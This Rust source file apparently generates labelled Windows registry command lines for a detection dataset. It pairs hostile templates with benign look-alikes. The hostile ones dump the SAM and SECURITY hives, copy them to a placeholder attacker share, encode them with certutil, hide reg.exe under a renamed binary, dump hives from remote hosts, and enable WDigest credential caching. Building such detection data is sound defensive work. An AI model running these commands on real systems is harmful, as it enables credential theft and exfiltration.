//! `reg.exe` and `regedit`: the account hives, and every other key.

use crate::generate::family::{Family, Kind::Cmd};

const SAVE: &[&str] = &[
    r"{reg} save {key} {outfile}« /y»",
    r"{reg} save {key} {outfile} /y",
    r#"{reg} save "{key}" {outfile}« /y»"#,
    r"{reg} save {key} {outfile} «/reg:64¦/reg:32¦/y /reg:64»",
    r"{reg} save /y {key} {outfile}",
    r"{reg} SAVE {key} {outfile}« /Y»",
    r"{reg} Save '{key}' {outfile}",
    r"{reg}   save   {key}   {outfile}",
];

const EXPORT: &[&str] = &[
    r"{reg} export {key} {outfile}« /y»",
    r#"{reg} export "{key}" {outfile} /y"#,
    r"{reg} export {key} {dir}\{stem}.reg« /y»",
    r"{reg} export {key} {stem}.reg «/reg:64¦/y»",
    r"{reg} EXPORT {key} {outfile} /Y",
];

const QUERY: &[&str] = &[
    r"{reg} query {key}« /s»",
    r"{reg} query {key} /s",
    r#"{reg} query "{key}"« /s»"#,
    r"{reg} query {key} /v «F¦V¦Default¦{alnum6}¦*¦CurrVal»« /s»",
    r"{reg} query {key} /ve",
    r"{reg} query /s {key}",
    r"{reg} query {key} ⟦/s¦«/t REG_BINARY»¦«/f «*¦password¦{user}»»¦«/reg:64»¦«/se #»⟧",
    r"{reg} QUERY {key} /s« | find«str» «/i »«password¦Names¦{user}¦F»»",
    r"{reg} query {key} /f {user} «/d¦/k» /s",
    r"{reg} query {key} /z",
];

const COPY: &[&str] = &[
    r"{reg} copy {key} {scratch}« /s»« /f»",
    r"{reg} copy {key} {scratch} ⟦/s¦/f⟧",
    r#"{reg} copy "{key}" "{scratch}" /s /f"#,
    r"{reg} copy {key} \\{plainhost}\HKLM\Software\{stem} /s",
];
const SCRATCH: &str =
    r"«HKLM\Temp¦HKLM\{alnum6}¦HKCU\{stem}¦HKCU\Software\{stem}¦HKLM\Software\{stem}¦HKU\.DEFAULT\{stem}»";

const LOAD: &[&str] = &[
    r"{reg} «load¦load¦load¦restore» «HKLM¦HKU¦hklm¦HKEY_LOCAL_MACHINE»\{stem} {file}",
    r#"{reg} load HKLM\{alnum6} "{file}""#,
    concat!(
        r"{reg} load HKLM\«OFFLINE¦offline¦temp¦tmp¦mnt¦OFF¦evidence»«_{hivename}» {file} && {reg} ",
        r"query HKLM\{stem} /s",
    ),
    r"{reg} LOAD HKU\{stem} {file}",
];

const REGEDIT: &[&str] = &[
    concat!(
        r"«regedit¦regedit.exe¦regedit.exe¦C:\Windows\regedit.exe¦REGEDIT¦%windir%\regedit.exe¦",
        r"regedt32» «/e¦/E¦-e¦/s /e¦/ea» {outfile} {key}",
    ),
    r#"«regedit¦regedit.exe¦C:\Windows\regedit.exe» /e {outfile} "{key}""#,
    r#"«start /wait ¦»regedit« /s» /e "{dir}\{stem}.reg" "{key}""#,
];

const CHAIN: &[&str] = &[
    r"{reg} save {key1} {dir.1}\{outname}« /y»«&&¦ && ¦ & ¦; ¦⏎»{reg} save {key2} {dir.1}\{outname}« /y»",
    concat!(
        r"{reg.1} save {key1} {outname}«&&¦ && ¦ & ¦; ¦⏎»{reg.1} save {key2} {outname}«&&¦ && ¦ & ¦; ¦⏎",
        r"»{reg.1} save {key3} {outname}",
    ),
    r"{reg.1} export {key1} {stem}.reg«&¦ && ¦⏎»{reg.1} export {key2} {stem}.reg",
    concat!(
        r#"{reg.1} save "{key1}" "{dir.1}\{outname}" /y⏎{reg.1} save "{key2}" "{dir.1}\{outname}" /y⏎"#,
        r#"{reg.1} save "{key3}" "{dir.1}\{outname}" /y"#,
    ),
    concat!(
        r"for {v.1} in («{k1} {k2}¦{k1} {k2} {k3}¦{k1},{k2}») do «@»{reg} save HKLM\{v.1} ",
        r"{dir}\{v.1}.«hiv¦save¦reg¦bak»« /y»",
    ),
    r"for %%a in ({k1} {k2} {k3}) do {reg} «save¦export» HKLM\%%a %%a.{anyext}",
    concat!(
        r"«mkdir¦md» {outdir.1} & {reg} save {key1} {outdir.1}\{outname} & {reg} save {key2} ",
        r"{outdir.1}\{outname}« & «tar -cf¦makecab¦7z a» {stem}.zip {outdir.1}»",
    ),
    r"{reg} save {key1} {outname.1} && «copy¦move¦xcopy» {outname.1} \\{attacker}\{share}\",
    r"{reg} save {key1} {outname.1} && certutil -encode {outname.1} {stem}.txt",
    r"{reg} save {key1} {outname.1} & timeout /t {1..60} & del {outname.1}",
];

const RENAMED: &[&str] = &[
    concat!(
        r"copy {windir}\System32\reg.exe {dir.1}\{alnum5.1}.exe && {dir.1}\{alnum5.1}.exe «save¦",
        r"export» {key} {outfile}",
    ),
    r"{dir}\{alnum5}.exe save {key} {outfile}« /y»",
    r"{dir}\«svchost¦update¦r¦calc¦notepad¦winlogon¦r1».exe «save¦export» {key} {outfile}",
    r"copy /y {windir}\system32\reg.exe .\r.exe & r query {qkey}« /s»",
    r"set {alnum3.1}=reg⏎%{alnum3.1}% save {key} {outfile}",
];

const REMOTE: &[&str] = &[
    r"{reg} save \\{rhost}\«HKLM¦hklm»\{tail} {outfile}« /y»",
    r"{reg} query \\{rhost}\HKLM\{tail}« /s»",
    concat!(
        r"sc \\{rhost} start RemoteRegistry«&&¦ & ¦⏎»{reg} save \\{rhost}\HKLM\{tail} ",
        r"\\{attacker}\{share}\{outname}",
    ),
    r"{reg} export \\{rhost}\HKEY_LOCAL_MACHINE\{tail} {outfile}",
];

pub const FAMILIES: &[Family] = &[
    Family::act("reg", "reg-save", "reg-save-other-hive", Cmd, SAVE)
        .slots(&[("key", r"{hklm}\{whole}")])
        .weight(40),
    Family::act("reg", "reg-save-inner-key", "reg-save-other-hive", Cmd, SAVE)
        .slots(&[("key", r"{hklm}\{inner}")]),
    Family::other("reg", "reg-save-other-hive", Cmd, SAVE).slots(&[("key", "{otherreg}")]).weight(30),
    Family::act("reg", "reg-export", "reg-export-other-key", Cmd, EXPORT)
        .slots(&[("key", r"{hklm}\«{whole}¦{whole}¦{inner}»")])
        .weight(15),
    Family::other("reg", "reg-export-other-key", Cmd, EXPORT).slots(&[("key", "{otherreg}")]).weight(15),
    Family::act("reg", "reg-query", "reg-query-other-key", Cmd, QUERY)
        .slots(&[("key", r"{hklm}\«{secret}¦{inner}¦{inner}¦{inner}»")])
        .weight(30),
    Family::other("reg", "reg-query-other-key", Cmd, QUERY)
        .slots(&[("key", r"«{otherreg}¦{otherreg}¦{otherreg}¦{otherreg}¦{otherreg}¦{hklm}\«SYSTEM¦system»»")])
        .weight(40),
    Family::act("reg", "reg-copy", "reg-copy-other-key", Cmd, COPY)
        .slots(&[("key", r"{locallm}\«{secret}¦{inner}»"), ("scratch", SCRATCH)])
        .weight(6),
    Family::other("reg", "reg-copy-other-key", Cmd, COPY)
        .slots(&[("key", "{otherreg}"), ("scratch", SCRATCH)])
        .weight(6),
    Family::act("reg", "reg-load", "reg-load-other-hive", Cmd, LOAD)
        .slots(&[(
            "file",
            concat!(
                r"«{dir}\sam«.hiv¦.save»¦{hivefile}¦{dir}\«SAM¦SECURITY¦Sam.hive¦security.hiv»¦",
                r"{link}\Windows\System32\config\{secret}»",
            ),
        )])
        .weight(6),
    Family::other("reg", "reg-load-other-hive", Cmd, LOAD)
        .slots(&[(
            "file",
            concat!(
                r"«C:\Users\{user}\NTUSER.DAT¦C:\Users\Default\NTUSER.DAT¦{dir}\software.hiv¦",
                r"D:\Windows\System32\config\SOFTWARE¦{dir}\NTUSER.DAT¦{dir}\UsrClass.dat¦{dir}\DEFAULT¦",
                r"{link}\Windows\System32\config\SOFTWARE¦C:\Users\sam\ntuser.dat»",
            ),
        )])
        .weight(10),
    Family::act("regedit", "regedit-export", "regedit-other-key", Cmd, REGEDIT)
        .slots(&[("key", r"{locallm}\«{whole}¦{inner}»")]),
    Family::other("regedit", "regedit-other-key", Cmd, REGEDIT)
        .slots(&[("key", "«{locallm}\\{otherkey}¦{userkey}»")])
        .weight(8),
    Family::act("reg", "reg-save-chain", "reg-chain-other", Cmd, CHAIN)
        .slots(&[
            ("key1", r"{locallm}\{secret}"),
            ("key2", r"{locallm}\«{whole}¦SYSTEM¦system¦{otherkey}»"),
            ("key3", r"{locallm}\{whole}"),
            ("v", "«%i¦%%i¦%h¦%%h¦%a¦%x»"),
            ("k1", "sam"),
            ("k2", "system"),
            ("k3", "{secret}"),
        ])
        .weight(25),
    Family::other("reg", "reg-chain-other", Cmd, CHAIN)
        .slots(&[
            ("key1", "{otherreg}"),
            ("key2", "{otherreg}"),
            ("key3", "{otherreg}"),
            ("v", "«%i¦%%i¦%h¦%%h¦%a¦%x»"),
            ("k1", "«software¦SOFTWARE¦hardware»"),
            ("k2", "«components¦drivers¦default»"),
            ("k3", r"«Software\{vendor}¦BCD00000000»"),
        ])
        .weight(20),
    Family::act("reg", "reg-renamed", "reg-renamed-other-key", Cmd, RENAMED)
        .slots(&[("key", r"{locallm}\«{whole}¦{inner}»"), ("qkey", r"{locallm}\«{secret}¦{inner}»")])
        .weight(8),
    Family::other("reg", "reg-renamed-other-key", Cmd, RENAMED)
        .slots(&[("key", "{otherreg}"), ("qkey", r"«{otherreg}¦{otherreg}¦{locallm}\«SYSTEM¦system»»")])
        .weight(6),
    Family::act("reg", "reg-remote", "reg-remote-other-key", Cmd, REMOTE)
        .slots(&[("tail", "«{secret}¦{inner}»")]),
    Family::other("reg", "reg-remote-other-key", Cmd, REMOTE).slots(&[("tail", "{otherkey}")]).weight(8),
    Family::other(
        "reg",
        "reg-edit",
        Cmd,
        &[
            concat!(
                r#"{reg} add "{otherreg}" /v {stem} /t «REG_SZ¦REG_DWORD¦REG_EXPAND_SZ» /d «{0..9}¦"#,
                r#""{appfile}"¦{dir}\{stem}.exe» /f"#,
            ),
            r"{reg} add {otherreg} ⟦/v {product}¦/t REG_DWORD¦/d {0..2}¦/f⟧",
            r"{reg} delete {otherreg} «/v {stem} ¦/va »/f",
            r"{reg} import {dir}\{stem}.reg",
            r"{reg} compare {userkey} \\{plainhost}\{userkey} /v Version",
            r"{reg} unload HKLM\{stem}",
            r"regedit /s {dir}\{stem}.reg",
            concat!(
                r"{reg} add HKLM\SYSTEM\CurrentControlSet\Control\Lsa /v «DisableRestrictedAdmin¦RunAsPPL¦",
                r"LmCompatibilityLevel¦NoLMHash¦RestrictRemoteSAM¦LimitBlankPasswordUse» /t REG_DWORD /d ",
                r"{0..2} /f",
            ),
            concat!(
                r"{reg} add HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest /v ",
                r"UseLogonCredential /t REG_DWORD /d 1 /f",
            ),
            r"{reg} /?",
            r"{reg} «save¦query¦export» /?",
            r"{reg} restore HKLM\Software\{vendor} {dir}\{stem}.hiv",
            r"{reg} flags HKLM\Software\{vendor} query",
        ],
    )
    .weight(20),
];
